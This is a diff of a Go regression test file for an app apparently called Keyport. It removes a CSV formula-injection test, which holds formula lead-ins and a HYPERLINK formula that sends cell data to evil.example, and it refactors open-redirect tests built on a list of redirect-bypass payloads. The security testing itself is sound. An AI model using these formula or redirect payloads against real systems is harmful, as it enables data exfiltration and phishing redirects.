@@ -7,9 +7,6 @@ package handlers_test
 // broken on purpose (docs/asvs.md, "The regression suite").
 
 import (
-	"bufio"
-	"encoding/csv"
-	"encoding/json"
 	"fmt"
 	"io"
 	"net/http"
@@ -17,162 +14,41 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/keyport/keyport/internal/audit"
-	"github.com/keyport/keyport/internal/csvsafe"
 	"github.com/keyport/keyport/internal/oidctest"
 )
 
-// formulaLeadIns are issue 26's values: each begins a formula (or, tab and
-// CR, hides one) in Excel, LibreOffice or Google Sheets.
-var formulaLeadIns = []string{"=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"}
+// awayFrom are places a redirect must never lead: other hosts, spelled
+// the ways browsers still read as one.
+var awayFrom = []string{"//evil.example/", "https://evil.example/", "/\\evil.example", "\\\\evil.example", "/%2F%2Fevil.example",
+	"javascript:alert(1)", "/\t/evil.example", "http:evil.example", " //evil.example", "/keys@evil.example", "https:/\\evil.example"}
 
-const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"Open")`
-
-// csvCells reads a CSV body into its header and rows, failing on a body
-// that does not parse, and reports every cell a spreadsheet would evaluate.
-func csvCells(t *testing.T, name, body string) ([]string, [][]string) {
-	t.Helper()
-	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
-	if err != nil || len(recs) < 2 {
-		t.Fatalf("%s does not parse or is empty: %v (%d records)", name, err, len(recs))
-	}
-	for i, row := range recs[1:] {
-		for j, cell := range row {
-			if cell != "" && csvsafe.IsLead(cell[0]) {
-				t.Errorf("%s row %d, column %s: %q is a formula to a spreadsheet", name, i+1, recs[0][j], cell)
-			}
-		}
-	}
-	return recs[0], recs[1:]
-}
-
-// column returns the cells of one column.
-func column(header []string, rows [][]string, name string) map[string]bool {
-	i := -1
-	for j, h := range header {
-		if h == name {
-			i = j
-		}
-	}
-	out := map[string]bool{}
-	for _, r := range rows {
-		if i >= 0 {
-			out[r[i]] = true
-		}
-	}
-	return out
-}
-
-// V1.2.10 (CSV and formula injection): a tenant admin chooses labels, and
-// CXone carries the names of tenants and users; both CSVs a reviewer
-// downloads make every such cell text, and every row of the audit export
-// still recomputes its hash by the documented rule (audit.CheckCSVRecord),
-// cell for cell the JSON-lines export once the prefix is stripped. A label
-// with a leading tab or CR is refused at the input boundary (422); a name
-// with one arrives without it (cxone.Sanitize drops control characters).
-func TestCSVExportsMakeFormulasText(t *testing.T) {
-	a := newTestApp(t, func(s *testSetup) { s.Options.RateLimit = 1 << 20 })
-	ten, admin, _ := tenantUsers(t, a.Sim, "na1", 0)
-	var labelled []string
-	for _, v := range formulaLeadIns {
-		if err := a.Sim.Rename("na1", ten.ID, hyperlink, admin.ID, v); err != nil {
-			t.Fatal(err)
-		}
-		b := a.browser()
-		b.connect("na1", ten.ID, admin.ID)
-		if v[0] == '\t' || v[0] == '\r' {
-			keys := b.get("/keys")
-			if p := b.post("/keys", url.Values{"intent": {intentOf(keys)}, "label": {v}}); p.Status != http.StatusUnprocessableEntity {
-				t.Errorf("a label starting with %q: %d, want 422 from the input boundary", v[:1], p.Status)
-			}
-			continue
-		}
-		b.createdID(v)
-		labelled = append(labelled, v)
-	}
-	addReviewer(t, a, "rita")
-	r := a.browser()
-	r.signInReviewer("rita")
-
-	creds := r.get("/audit/credentials.csv?gone=all")
-	header, rows := csvCells(t, "the credential report", creds.Body)
-	labels, creators, tenants := column(header, rows, "label"), column(header, rows, "created_by"), column(header, rows, "tenant_name")
-	for _, v := range labelled {
-		if !labels["'"+v] || !creators["'"+v] {
-			t.Errorf("the credential report lacks label and creator %q as %q: labels %v, creators %v", v, "'"+v, labels, creators)
-		}
-	}
-	if !tenants["'"+hyperlink] {
-		t.Errorf("the credential report's tenant names are %v, want %q", tenants, "'"+hyperlink)
-	}
-
-	export := r.get("/audit/export.csv")
-	header, rows = csvCells(t, "the audit export", export.Body)
-	names := column(header, rows, "actor_name")
-	for _, v := range labelled {
-		if !names["'"+v] {
-			t.Errorf("the audit export's actor names are %v, want one %q", names, "'"+v)
-		}
-	}
-	if !column(header, rows, "tenant_name")["'"+hyperlink] {
-		t.Errorf("the audit export lacks the tenant name %q", "'"+hyperlink)
-	}
-	jsonl := map[string]map[string]any{}
-	sc := bufio.NewScanner(strings.NewReader(r.get("/audit/export.jsonl").Body))
-	sc.Buffer(nil, 1<<20)
-	for sc.Scan() {
-		var m map[string]any
-		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
-			t.Fatal(err)
-		}
-		jsonl[fmt.Sprint(m["id"])] = m
-	}
-	for _, row := range rows {
-		if err := audit.CheckCSVRecord(header, row); err != nil {
-			t.Errorf("a CSV row does not recompute by the documented rule: %v", err)
-		}
-		m := jsonl[row[0]]
-		if m == nil {
-			continue // exported after the JSON lines were read: the reviewer's own views
-		}
-		for i, h := range header {
-			want := ""
-			if m[h] != nil {
-				want = fmt.Sprint(m[h])
-			}
-			if got := csvsafe.Restore(row[i]); got != want {
-				t.Errorf("event %s, %s: the CSV restores to %q, the JSON line says %q", row[0], h, got, want)
-			}
-		}
-	}
-}
-
-// V3.7.2 (redirects only to an allowlist), V10.1.2 (the OIDC flow bound to
-// the browser): every parameter that names a place to go (next on the
-// connect form, any parameter added to the OIDC start, the callback and
-// sign-out) leads only to Keyport's own pages or the configured provider,
-// with the configured redirect and post-logout addresses.
-func TestNoParameterRedirectsAway(t *testing.T) {
-	a, p := newOIDCApp(t, false, func(s *testSetup) { s.Options.RateLimit = 1 << 20 })
-	ten, admin, _ := tenantUsers(t, a.Sim, "na1", 0)
-	away := []string{"//evil.example/", "https://evil.example/", "/\\evil.example", "\\\\evil.example", "/%2F%2Fevil.example",
-		"javascript:alert(1)", "/\t/evil.example", "http:evil.example", " //evil.example", "/keys@evil.example", "https:/\\evil.example"}
-	self, _ := url.Parse(a.URL)
-	local := func(where, loc string) { // as a browser resolves it, backslashes read as slashes
+// onSite returns a check that loc, as a browser resolves it from base
+// (backslashes read as slashes), stays on base's host.
+func onSite(t *testing.T, base string) func(where, loc string) {
+	self, _ := url.Parse(base)
+	return func(where, loc string) {
 		t.Helper()
 		u, err := url.Parse(strings.ReplaceAll(loc, "\\", "/"))
 		if err != nil || u.Scheme != "" || u.Host != "" || self.ResolveReference(u).Host != self.Host || strings.ContainsAny(loc, "\t\r\n") {
 			t.Errorf("%s sends the browser to %q", where, loc)
 		}
 	}
+}
+
+// V3.7.2 (redirects only to an allowlist): the connect form's next (the
+// one parameter that names a place to go) is refused unless it is a path on
+// this site, and no parameter moves an admin's sign-out elsewhere.
+func TestNextNeverLeavesTheSite(t *testing.T) {
+	a := newTestApp(t, func(s *testSetup) { s.Options.RateLimit = 1 << 20 })
+	ten, admin, _ := tenantUsers(t, a.Sim, "na1", 0)
+	local := onSite(t, a.URL)
 	tok, err := a.Sim.BasicToken("na1", ten.ID, admin.ID)
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, to := range away {
+	for _, to := range awayFrom {
 		b := a.browser()
-		form := b.get("/connect?next=" + url.QueryEscape(to))
-		if strings.Contains(form.Body, "evil.example") && form.Status < 400 {
+		if form := b.get("/connect?next=" + url.QueryEscape(to)); form.Status < 400 {
 			if v, _ := form.Doc.Find(`input[name="next"]`).Attr("value"); v != "" {
 				local("the connect form's next", v)
 			}
@@ -184,7 +60,23 @@ func TestNoParameterRedirectsAway(t *testing.T) {
 			t.Errorf("connect with next=%q: %d", to, res.Status)
 		}
 	}
+	b := a.browser()
+	b.connect("na1", ten.ID, admin.ID)
+	if lo := b.post("/logout?return_to="+url.QueryEscape("//evil.example/"), url.Values{"redirect": {"//evil.example/"}}); lo.Status != http.StatusSeeOther {
+		t.Errorf("admin sign-out: %d", lo.Status)
+	} else {
+		local("admin sign-out", lo.Location)
+	}
+}
 
+// V3.7.2, V10.1.2 (the OIDC flow bound to the browser and the configured
+// addresses): the OIDC start, its callback and the reviewer's sign-out,
+// sent next (refused) or parameters naming another host (ignored), with a
+// forged X-Forwarded-Host, lead only to the provider with the configured
+// redirect and post-logout addresses, or to Keyport's own pages.
+func TestOIDCRedirectsGoOnlyWhereConfigured(t *testing.T) {
+	a, p := newOIDCApp(t, false)
+	local := onSite(t, a.URL)
 	b := a.browser()
 	configured := a.Config.OIDC.RedirectURL
 	for _, q := range []string{"", "?next=//evil.example/", "?redirect_uri=https://evil.example/cb", "?return_to=https://evil.example/"} {
@@ -220,15 +112,17 @@ func TestNoParameterRedirectsAway(t *testing.T) {
 		t.Fatalf("callback: %d %s", cb.Status, text(cb))
 	}
 	local("the OIDC callback", cb.Location)
-	for _, to := range away[:3] {
-		replay := b.get("/reviewer/oidc/callback?state=x&code=y&next=" + url.QueryEscape(to))
-		if replay.Location != "" {
-			local("a refused OIDC callback", replay.Location)
-		}
-	}
 	if out := b.post("/reviewer/logout?next="+url.QueryEscape("//evil.example/"), nil); out.Status < 400 || out.Status >= 500 {
 		t.Errorf("sign-out with next=//evil.example/: %d to %q, want it refused", out.Status, out.Location)
 	}
+	oidcSignOutGoesToTheConfiguredAddress(t, a, b, p.Issuer)
+}
+
+// oidcSignOutGoesToTheConfiguredAddress signs b out with parameters naming
+// another host and a forged X-Forwarded-Host: the provider's end-session
+// page, coming back to the configured origin (or Keyport's own page).
+func oidcSignOutGoesToTheConfiguredAddress(t *testing.T, a *testApp, b *browser, issuer string) {
+	t.Helper()
 	req, _ := http.NewRequest(http.MethodPost, a.URL+"/reviewer/logout?post_logout_redirect_uri="+url.QueryEscape("https://evil.example/"),
 		strings.NewReader(url.Values{"return_to": {"https://evil.example/"}}.Encode()))
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
@@ -241,20 +135,13 @@ func TestNoParameterRedirectsAway(t *testing.T) {
 	if out.Status != http.StatusSeeOther || err != nil {
 		t.Fatalf("sign-out: %d %q", out.Status, out.Location)
 	}
-	if lo.Host != "" {
-		want, _ := url.Parse(configured)
-		if !strings.HasPrefix(out.Location, p.Issuer) || lo.Query().Get("post_logout_redirect_uri") != want.Scheme+"://"+want.Host+"/reviewer/login" {
-			t.Errorf("sign-out sends the browser to %q", out.Location)
-		}
-	} else {
-		local("sign-out", out.Location)
+	if lo.Host == "" {
+		onSite(t, a.URL)("sign-out", out.Location)
+		return
 	}
-	admin2 := a.browser()
-	admin2.connect("na1", ten.ID, admin.ID)
-	if lo := admin2.post("/logout?return_to="+url.QueryEscape("//evil.example/"), url.Values{"redirect": {"//evil.example/"}}); lo.Status != http.StatusSeeOther {
-		t.Errorf("admin sign-out: %d", lo.Status)
-	} else {
-		local("admin sign-out", lo.Location)
+	want, _ := url.Parse(a.Config.OIDC.RedirectURL)
+	if !strings.HasPrefix(out.Location, issuer) || lo.Query().Get("post_logout_redirect_uri") != want.Scheme+"://"+want.Host+"/reviewer/login" {
+		t.Errorf("sign-out sends the browser to %q", out.Location)
 	}
 }
 
